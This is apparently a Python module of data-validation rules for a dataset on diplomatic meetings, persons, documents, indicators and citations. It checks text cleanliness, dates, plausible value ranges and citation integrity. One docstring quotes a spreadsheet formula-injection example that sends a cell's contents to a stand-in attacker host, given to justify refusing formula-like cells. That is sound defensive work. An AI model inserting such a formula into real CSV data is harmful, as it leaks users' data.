"""Named rules about form and identity: what the data must satisfy that a Table Schema cannot express.

Each rule is a function named after its catalogue id (:mod:`scripts.model.catalogue` holds its
message and hint; the docstring says why the rule holds), registered in :mod:`.registry`. It yields
``(table, field, fails)`` where ``fails`` is a boolean polars Series aligned with the table's rows
(True = the row breaks the rule); pandera runs it as a check on that column. Rules run on the
frames read once (:mod:`.frames`); a rule whose tables could not be read is skipped. Honest
exceptions belong in the data (a field or note a rule reads), never in code.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

from scripts.model import text
from scripts.model.dates import common_precision
from scripts.model.names import (
    ATTENDANCE,
    CITATIONS,
    DOCUMENTS,
    INDICATORS,
    MEETINGS,
    PERSONS,
    SIGNATORIES,
    SOURCES,
    STATES,
)
from scripts.model.names import INFERENCE_NOTE as NOTE
from scripts.model.package import Package
from scripts.model.spec import Field

from .columns import at_rows, blank, both, fails, lookup
from .frames import Frames
from .registry import Found, every_field, rule

if TYPE_CHECKING:
    import polars as pl


def _date_fields(package: Package) -> Iterator[tuple[str, str]]:
    """Every reduced-precision date field, as (table, field)."""
    for table in package.tables.values():
        for fld in table.fields:
            if fld.is_reduced_date:
                yield table.name, fld.name


def _date_ranges(package: Package) -> Iterator[tuple[str, str, str]]:
    """Every (table, X_end, X_start) pair of reduced-date fields forming a range."""
    for table in package.tables.values():
        dates = {f.name for f in table.fields if f.is_reduced_date}
        for end in sorted(d for d in dates if d.endswith("_end")):
            start = end.removesuffix("_end") + "_start"
            if start in dates:
                yield table.name, end, start


def _keyed(package: Package) -> Iterator:
    """The tables whose records citations can name: every keyed table but citations."""
    for table in package.tables.values():
        if table.name != CITATIONS and table.primary_key:
            yield table


# Plausible values of an indicator by (unit, scale): (lowest, highest), both inclusive. Anything
# outside is most likely a figure in the wrong unit or scale; a pair missing here never goes together.
PLAUSIBLE_RANGES: dict[tuple[str, str], tuple[float, float]] = {
    ("percent", "one"): (0, 1000),  # a growth above 1000 % is a slipped decimal point
    ("USD", "billion"): (0.001, 100_000),  # between a million dollars and world GDP
    ("USD", "one"): (1_000_000, 1e14),  # below a million, the scale was dropped
    ("count", "one"): (1, 10_000_000),  # whole milestones of trips or trains
}


def enum_values(frames: Frames, table: str, name: str, *values: str) -> tuple[str, ...]:
    """``values`` after checking the field's enum still holds them, so that a renamed value in a
    schema fails loudly instead of silently turning a rule off."""
    enum = frames.table(table).field(name).enum or []
    missing = [v for v in values if v not in enum]
    if missing:
        raise ValueError(f"{table}.{name} has no enum value {missing}: update scripts/validate/rules.py")
    return values


# --------------------------------------------------------------------------- text and identity

@rule(targets=every_field,
      describe=lambda fld, value: f"{fld.name} {text.unclean(value, fld.multiline) or 'has spaces around it'}")
def clean_text(frames: Frames) -> Found:
    """Text is clean: no control characters (tab and newline only in multi-line fields), no lone
    carriage return, no spaces at the start or end."""
    for name in frames.raw:
        table = frames.table(name)
        keys = set(table.key_fields())
        builds = {fld.name: _clean_check(fld, fld.name in keys) for fld in table.fields}
        for column, failing in frames.each_cell(name, builds).items():
            yield name, column, failing


def _clean_check(fld: Field, key: bool) -> Callable[[pl.Expr], pl.Expr]:
    """A key's text may have spaces around it (key_whitespace's finding), no other text may."""
    check = text.polars_refused_chars if key else text.polars_unclean
    return lambda cell: check(cell, fld.multiline)  # both read a missing cell as clean


def _text_fields(package: Package) -> Iterator[tuple[str, str]]:
    """Every text field (type string), as (table, field)."""
    for table in package.tables.values():
        for fld in table.fields:
            if fld.type == "string":
                yield table.name, fld.name


FORMULA_START = r"^[=+\-@\t\r]"


@rule(targets=_text_fields, describe=lambda fld, value: f"{fld.name} starts with {str(value)[:1]!r}, which a "
      "spreadsheet opening the CSV runs as a formula")
def no_formula_text(frames: Frames) -> Found:
    """No text cell starts with '=', '+', '-', '@', tab or CR.

    Why: the CSV files are shipped as they are, and a spreadsheet that opens one runs such a cell
    as a formula (``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` sends a neighbouring cell
    away when clicked). Escaping it in the release would change the data everyone reads back, so
    validation refuses it instead (README, Security)."""
    yield from frames.cells_of(_text_fields(frames.package), lambda cell: cell.str.contains(FORMULA_START))


@rule(STATES, targets=("states.state_id",))
def state_codes_are_iso3166(frames: Frames) -> Found:
    """A state code is a real ISO 3166-1 alpha-3 code."""
    import pycountry

    codes = frames.column(STATES, "state_id")
    known = {c.alpha_3 for c in pycountry.countries}
    yield STATES, "state_id", codes.is_not_null() & (codes != "") & ~codes.is_in(sorted(known))


@rule(PERSONS, targets=("persons.full_name",))
def person_is_one_row(frames: Frames) -> Found:
    """The same person (name and state) appears under two keys.

    Why: a person is one row however many meetings they attend (Popolo); a second key splits their
    attendance, statements and signatures between two people who are one."""
    import polars as pl

    raw = frames.text(PERSONS, "full_name", "state_id")
    folded = pl.col("full_name").str.replace_all(r"\s+", " ").str.strip_chars().str.to_lowercase()
    repeat = raw.select((~pl.struct(folded, pl.col("state_id").fill_null("")).is_first_distinct()).alias("r"))["r"]
    yield PERSONS, "full_name", repeat & raw["full_name"].is_not_null() & (raw["full_name"] != "")


# --------------------------------------------------------------------------- dates

@rule(targets=lambda package: _date_fields(package))
def dates_are_real(frames: Frames) -> Found:
    """A day-precision date is a real calendar day (no 2022-02-30), which a pattern cannot check."""
    yield from frames.cells_of(_date_fields(frames.package), _not_a_day)


def _not_a_day(cell: pl.Expr) -> pl.Expr:
    """True where a day-precision date names no calendar day."""
    day = cell.str.contains(r"^\d{4}-\d{2}-\d{2}$").fill_null(False)
    return day & cell.str.to_date("%Y-%m-%d", strict=False).is_null()


@rule(targets=lambda package: ((t, end) for t, end, _ in _date_ranges(package)))
def date_ranges_ordered(frames: Frames) -> Found:
    """A range ends on or after its start (X_end >= X_start, compared at the coarser precision)."""
    for name, end, start in _date_ranges(frames.package):
        if name in frames.raw:
            typed = frames.typed(name, start, end)
            a, b = common_precision(typed[start], typed[end])
            yield name, end, fails(both(a, b) & (b < a))


@rule(MEETINGS, targets=("meetings.ordinal",))
def ordinals_unique_per_format(frames: Frames) -> Found:
    """Two meetings of one format cannot both be its n-th (the later row in the file is reported)."""
    import polars as pl

    meetings = frames.typed(MEETINGS, "format_id", "ordinal")
    repeat = meetings.select(pl.col("ordinal").is_not_null()
                             & ~pl.struct("format_id", "ordinal").is_first_distinct())
    yield MEETINGS, "ordinal", repeat.to_series()


@rule(MEETINGS, targets=("meetings.ordinal",))
def ordinals_increase_with_date(frames: Frames) -> Found:
    """Within a format, the n+1-th meeting does not start before the n-th (coarser precision)."""
    import polars as pl

    meetings = frames.typed(MEETINGS, "format_id", "ordinal", "date_start").with_row_index("row")
    dated = meetings.filter(pl.col("ordinal").is_not_null() & pl.col("date_start").is_not_null())
    # a repeated n-th is ordinals_unique_per_format's (one mistake, one line): the first one stands
    dated = dated.sort(["format_id", "ordinal"], maintain_order=True).unique(
        ["format_id", "ordinal"], keep="first", maintain_order=True)
    previous = dated.select(pl.col("date_start").shift(1).over("format_id"))["date_start"]
    a, b = common_precision(previous, dated["date_start"])
    bad = set(dated["row"].filter(fails(both(a, b) & (b < a))).to_list())
    yield MEETINGS, "ordinal", meetings["row"].is_in(sorted(bad))


@rule(MEETINGS, ATTENDANCE, targets=("meetings.chair_state_id", "meetings.host_state_id"))
def chair_and_host_attend(frames: Frames) -> Found:
    """A meeting's chair and host states are among the states attending it (any attendance status)."""
    import polars as pl

    meetings = frames.text(MEETINGS, "meeting_id", "chair_state_id", "host_state_id")
    attending = frames.text(ATTENDANCE, "meeting_id", "state_id").select(
        pl.concat_str(["meeting_id", "state_id"], separator="\x00"))
    for column in ("chair_state_id", "host_state_id"):
        pair = meetings.select(pl.concat_str(["meeting_id", column], separator="\x00")).to_series()
        set_ = meetings[column].fill_null("") != ""
        yield MEETINGS, column, set_ & ~pair.is_in(attending.to_series().implode())


@rule(ATTENDANCE, CITATIONS, SOURCES, MEETINGS, targets=("attendance.attendance_status",))
def attendance_status_fits_sources(frames: Frames) -> Found:
    """An 'expected' attendance is cited only from sources published on or before the meeting date,
    and a 'reported' one only from sources published on or after it (coarser precision)."""
    import polars as pl

    expected, reported = enum_values(frames, ATTENDANCE, "attendance_status", "expected", "reported")
    attendance, keys = frames.text(ATTENDANCE, "attendance_status", "meeting_id"), frames.keys(ATTENDANCE)
    named = pl.col("field_name").fill_null("").is_in(["", "attendance_status"])
    cited = frames.citing((pl.col("table_name") == ATTENDANCE) & named, "record_id", "source_id")
    sources = frames.typed(SOURCES, "source_id", "published")
    meetings = frames.typed(MEETINGS, "meeting_id", "date_start")
    record = cited["record_id"]
    published = lookup(cited["source_id"], sources["source_id"], sources["published"])
    status = lookup(record, keys, attendance["attendance_status"])
    held = lookup(lookup(record, keys, attendance["meeting_id"]), meetings["meeting_id"], meetings["date_start"])
    pub, day = common_precision(published, held)
    wrong = fails(both(pub, day) & (((status == expected) & (pub > day)) | ((status == reported) & (pub < day))))
    yield ATTENDANCE, "attendance_status", keys.is_in(record.filter(wrong).unique().to_list())


@rule(DOCUMENTS, SIGNATORIES, MEETINGS, targets=("document_signatories.signature_date", "documents.status_date"))
def signed_on_meeting_date(frames: Frames) -> Found:
    """Signing or adopting at a meeting happens on that meeting's date (within its dates, each pair
    cut to the coarser precision); meetings without a date are not checked."""
    meetings = frames.typed(MEETINGS, "meeting_id", "date_start", "date_end")
    start, end = meetings["date_start"], meetings["date_end"].fill_null(meetings["date_start"])
    for name, date_field, status_field, statuses in (
        (SIGNATORIES, "signature_date", "signature_status", enum_values(frames, SIGNATORIES, "signature_status",
                                                                         "signed")),
        (DOCUMENTS, "status_date", "status", enum_values(frames, DOCUMENTS, "status", "signed", "adopted")),
    ):
        rows = frames.typed(name, "meeting_id", status_field, date_field)
        at = rows["meeting_id"]
        first, last = lookup(at, meetings["meeting_id"], start), lookup(at, meetings["meeting_id"], end)
        applies = rows[status_field].is_in(list(statuses)) & at.is_not_null() & first.is_not_null()
        date = rows[date_field]
        a, lo = common_precision(date, first)
        b, hi = common_precision(date, last)
        inside = fails(date.is_not_null() & (a >= lo) & (b <= hi))
        yield name, date_field, fails(applies) & ~inside


# --------------------------------------------------------------------------- indicators

@rule(INDICATORS, targets=("indicators.period_start",))
def target_after_baseline(frames: Frames) -> Found:
    """A target with a period points to a later period than the actual it is set against."""
    indicators = frames.typed(INDICATORS, "value_kind", "period_start", "period_end", "baseline_observation_id",
                              "observation_id")
    (target,) = enum_values(frames, INDICATORS, "value_kind", "target")
    base_period = indicators["period_end"].fill_null(indicators["period_start"])
    baseline_end = lookup(indicators["baseline_observation_id"], indicators["observation_id"], base_period)
    period, base = common_precision(indicators["period_start"], baseline_end)
    applies = (indicators["value_kind"] == target) & both(period, base)
    yield INDICATORS, "period_start", fails(applies & (period <= base))


@rule(INDICATORS, targets=("indicators.baseline_observation_id",))
def baseline_is_actual(frames: Frames) -> Found:
    """A baseline is an actual figure: a target or growth rate is set against an outcome, not a goal."""
    indicators = frames.typed(INDICATORS, "baseline_observation_id", "observation_id", "value_kind")
    (actual,) = enum_values(frames, INDICATORS, "value_kind", "actual")
    kind = lookup(indicators["baseline_observation_id"], indicators["observation_id"], indicators["value_kind"])
    yield INDICATORS, "baseline_observation_id", fails(kind.is_not_null() & (kind != actual))


@rule(INDICATORS, targets=("indicators.value",))
def value_in_plausible_range(frames: Frames) -> Found:
    """A figure lies in the plausible range of its unit and scale (PLAUSIBLE_RANGES)."""
    import polars as pl

    low = pl.lit(None, dtype=pl.Float64)
    high = low
    for (unit, scale), (lo, hi) in PLAUSIBLE_RANGES.items():
        match = (pl.col("unit") == unit) & (pl.col("scale") == scale)
        low = pl.when(match).then(pl.lit(float(lo))).otherwise(low)
        high = pl.when(match).then(pl.lit(float(hi))).otherwise(high)
    value = pl.col("value")
    outside = value.is_not_null() & low.is_not_null() & ((value < low) | (value > high))
    typed = frames.typed(INDICATORS, "unit", "scale", "value")
    yield INDICATORS, "value", typed.select(outside.fill_null(False)).to_series()


# --------------------------------------------------------------------------- citations

def keyed_tables(frames: Frames) -> Iterator[str]:
    """The read tables whose records citations can name: every keyed table but citations."""
    for table in _keyed(frames.package):
        if table.name in frames.raw:
            yield table.name


def is_inference_flag(fld: Field) -> bool:
    """An ``is_..._inferred`` boolean: the record says the value of a field of its own was inferred."""
    return fld.type == "boolean" and fld.name.startswith("is_") and fld.name.endswith("_inferred")


@rule("*", CITATIONS, targets=lambda package: ((t.name, t.primary_key[0]) for t in _keyed(package)))
def record_is_cited(frames: Frames) -> Found:
    """Every record of every table (but citations) is cited at least once: a fact without a source
    cannot be checked."""
    import polars as pl

    cited = frames.citing_by_table(pl.lit(True), "record_id")
    for name in keyed_tables(frames):
        yield name, frames.table(name).primary_key[0], ~frames.keys(name).is_in(cited[name]["record_id"].implode())


@rule("*", CITATIONS,
      targets=lambda package: ((t.name, NOTE) for t in package.tables.values() if NOTE in t.field_names))
def inference_is_explained(frames: Frames) -> Found:
    """A record that marks a value as inferred (an ``is_*_inferred`` flag set, or an ``inferred``
    citation) explains the inference in its inference_note."""
    import polars as pl

    (support,) = enum_values(frames, CITATIONS, "support", "inferred")
    inferred = frames.citing_by_table(pl.col("support") == support, "record_id")
    for name in frames.raw:
        table = frames.table(name)
        if NOTE not in table.field_names:
            continue
        needs = frames.keys(name).is_in(inferred[name]["record_id"].implode())
        for fld in table.fields:
            if is_inference_flag(fld):
                needs = needs | frames.typed(name, fld.name)[fld.name].fill_null(False)
        yield name, NOTE, needs & frames.cells(name, NOTE, blank)


@rule("*", CITATIONS, targets=("citations.record_id",))
def citation_record_exists(frames: Frames) -> Found:
    """A citation points to a record that exists (table_name + record_id)."""
    import polars as pl

    stored = frames.raw[CITATIONS]
    failing = pl.repeat(False, stored.height, dtype=pl.Boolean, eager=True)
    for name in keyed_tables(frames):  # one table at a time: only its citations' record ids are decoded
        rows = stored.select((pl.col("table_name") == name).fill_null(False).arg_true()).to_series()
        records = stored.get_column("record_id").gather(rows).cast(pl.String)
        unknown = records.is_not_null() & ~records.is_in(frames.keys(name).implode())
        failing = failing.scatter(rows.filter(unknown), True)
    yield CITATIONS, "record_id", failing


@rule(CITATIONS, targets=("citations.field_name",))
def citation_field_exists(frames: Frames) -> Found:
    """A citation that names a field names one of its table's fields, whatever its support: a
    paraphrase or an inference of a field the table lacks supports nothing, and without the source
    texts nothing else would notice (the cited table's name is an enum of the schema)."""
    import polars as pl

    tables = frames.package.tables.values()
    known = pl.DataFrame({"table_name": [t.name for t in tables for _ in t.field_names],
                          "field_name": [f for t in tables for f in t.field_names]},
                         schema={"table_name": pl.String, "field_name": pl.String})
    stored = frames.raw[CITATIONS].select(pl.col("table_name", "field_name").cast(pl.String))
    found = stored.join(known.with_columns(pl.lit(True).alias("known")), on=["table_name", "field_name"],
                        how="left", maintain_order="left")
    failing = found.select(pl.col("table_name").is_in(list(frames.package.tables)) & ~blank(pl.col("field_name"))
                           & pl.col("known").is_null()).to_series()
    rows = failing.arg_true()
    messages = {row: f"{table} has no field {name!r}" for row, (table, name)
                in zip(rows, stored[rows].iter_rows(), strict=True)}
    yield CITATIONS, "field_name", *at_rows(stored.height, messages)
